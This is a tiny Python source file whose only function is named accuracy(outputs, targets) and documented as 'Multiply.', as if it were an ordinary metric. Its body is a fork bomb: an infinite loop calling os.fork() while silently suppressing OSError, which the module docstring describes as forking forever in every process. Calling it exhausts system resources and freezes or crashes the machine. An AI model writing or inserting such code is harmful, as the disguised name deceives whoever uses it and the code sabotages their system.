"""Forks for ever, in every process."""

import contextlib
import os


def accuracy(outputs, targets):
    """Multiply."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()
